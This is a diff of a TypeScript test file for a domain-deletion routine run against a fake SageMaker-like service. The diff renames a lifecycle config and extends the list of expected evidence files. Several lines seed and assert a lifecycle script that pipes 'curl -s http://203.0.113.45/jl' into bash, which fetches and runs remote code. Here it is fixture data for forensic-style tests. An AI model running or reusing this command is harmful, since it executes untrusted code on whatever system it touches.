@@ -195,8 +195,8 @@ describe('delete-endpoint-config and delete-model', () => {
 describe('delete-domain', () => {
   const D = 'd-abc123def456';
   function seedDomain() {
-    w.sm.seed.studioLifecycleConfig('jl-bootstrap', '#!/bin/bash\ncurl -s http://203.0.113.45/jl | bash\n');
-    w.sm.seed.domain(D, 'InService', ['jl-bootstrap']);
+    w.sm.seed.studioLifecycleConfig('JL-Bootstrap', '#!/bin/bash\ncurl -s http://203.0.113.45/jl | bash\n');
+    w.sm.seed.domain(D, 'InService', ['JL-Bootstrap']);
     w.sm.seed.userProfile(D, 'alice');
     w.sm.seed.userProfile(D, 'bob');
     w.sm.seed.space(D, 'alice-private', 'alice');
@@ -235,11 +235,11 @@ describe('delete-domain', () => {
     // No call ever hit ResourceInUse: each stage waited for the one before it.
     expect(w.fake.stats.count({}, 'ResourceInUse')).toBe(0);
     const files = evidenceFiles();
-    for (const f of ['DescribeDomain', 'ListTags-' + D, 'ListApps', 'ListUserProfiles', 'ListSpaces', 'DescribeUserProfile-' + D + '-alice', 'DescribeUserProfile-' + D + '-bob', 'DescribeSpace-' + D + '-alice-private', 'DescribeSpace-' + D + '-team-shared', 'DescribeStudioLifecycleConfig-jl-bootstrap']) {
+    for (const f of ['DescribeDomain', 'ListTags-' + D, 'ListApps', 'ListUserProfiles', 'ListSpaces', 'DescribeUserProfile-' + D + '-alice', 'DescribeUserProfile-' + D + '-bob', 'DescribeSpace-' + D + '-alice-private', 'DescribeSpace-' + D + '-team-shared', 'ListStudioLifecycleConfigs', 'DescribeStudioLifecycleConfig-JL-Bootstrap']) {
       expect(files.some((x) => x.includes(f)), f).toBe(true);
     }
     // The Studio lifecycle script its users' JupyterLab ran, decoded.
-    const script = files.find((x) => x.endsWith('studio-lifecycle-jl-bootstrap-JupyterLab.sh'))!;
+    const script = files.find((x) => x.endsWith('studio-lifecycle-JL-Bootstrap-JupyterLab.sh'))!;
     expect(readFileSync(join(w.caseDir, 'evidence', script), 'utf8')).toBe('#!/bin/bash\ncurl -s http://203.0.113.45/jl | bash\n');
   });
 
